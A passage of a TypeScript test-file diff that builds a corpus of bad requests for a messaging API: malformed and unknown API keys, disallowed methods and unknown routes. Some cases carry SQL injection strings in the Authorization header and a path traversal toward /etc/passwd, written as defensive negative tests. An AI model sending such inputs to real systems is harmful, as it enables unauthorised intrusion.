+  ["POST", "/v1/account/webhook_secret/roll"],
+];
+const BAD_AUTHORIZATIONS: [string, string | null, string][] = [
+  ["no Authorization header", null, "missing_api_key"],
+  ["Basic without credentials", "Basic", "malformed_authorization"],
+  ["Basic with invalid base64", "Basic !!!not-base64", "malformed_authorization"],
+  ["an empty Bearer", "Bearer ", "malformed_authorization"],
+  ["an unknown scheme", "Token sk_test_v2_abc", "malformed_authorization"],
+  ["a key of the wrong shape", "Bearer sk_test_v2_short", "invalid_api_key"],
+  ["an unknown key", `Bearer sk_test_v2_${"0".repeat(48)}`, "invalid_api_key"],
+  ["an unknown live key", `Bearer sk_live_v2_${"f".repeat(48)}`, "invalid_api_key"],
+  ["an injection as the key", "Bearer '||(SELECT(1))--", "invalid_api_key"],
+  ["text after the key", "Bearer sk_test_v2_abc ' OR 1=1 --", "malformed_authorization"],
+  ["a huge header", `Bearer ${"k".repeat(8000)}`, "invalid_api_key"],
+];
+
+const authCases: BadRequest[] = ENDPOINTS.flatMap(([method, path, body]) =>
+  BAD_AUTHORIZATIONS.map(([what, authorization, code]) => request(`${method} ${path}: ${what}`, method, path, unauthorized(code), { authorization, body })),
+);
+
+const routingCases: BadRequest[] = [
+  request("DELETE /v1/messages", "DELETE", "/v1/messages", { status: 405, code: "method_not_allowed" }),
+  request("PUT /v1/templates/:id", "PUT", "/v1/templates/auth_otp", { status: 405, code: "method_not_allowed" }, { body: templateBody() }),
+  request("PATCH /v1/senders/:id", "PATCH", `/v1/senders/${validSenderId}`, { status: 405, code: "method_not_allowed" }, { body: senderBody() }),
+  request("DELETE /v1/templates", "DELETE", "/v1/templates", { status: 405, code: "method_not_allowed" }),
+  request("PUT /v1/messages", "PUT", "/v1/messages", { status: 405, code: "method_not_allowed" }, { body: { json: smsBody() } }),
+  request("PATCH /v1/messages/:id", "PATCH", `/v1/messages/${validId}`, { status: 405, code: "method_not_allowed" }, { body: { json: { status: "delivered" } } }),
+  request("DELETE /v1/messages/:id", "DELETE", `/v1/messages/${validId}`, { status: 405, code: "method_not_allowed" }),
+  request("POST /v1/messages/:id", "POST", `/v1/messages/${validId}`, { status: 405, code: "method_not_allowed" }, { body: { json: smsBody() } }),
+  request("POST /healthz", "POST", "/healthz", { status: 405, code: "method_not_allowed" }, { body: { json: {} } }),
+  request("an unknown resource", "GET", "/v1/charges", { status: 404, code: "route_not_found" }),
+  request("an unknown version", "POST", "/v2/messages", { status: 404, code: "route_not_found" }, { body: { json: smsBody() } }),
+  request("a path traversal", "GET", "/v1/messages/../../etc/passwd", { status: 404 }),
+  request("a double slash", "POST", "//v1/messages", { status: 404 }, { body: { json: smsBody() } }),
+];
+
+export const CORPUS: BadRequest[] = [
+  ...brokenBodies,
+  ...wrongTypes,
+  ...oddStrings,
+  ...injections,
+  ...badIdempotencyKeys,
+  ...listCases,
+  ...retrieveCases,
+  ...eventsCases,
+  ...templateCases,
+  ...senderCases,
+  ...accountCases,
+  ...receiptCases,
+  ...authCases,
+  ...routingCases,
+];
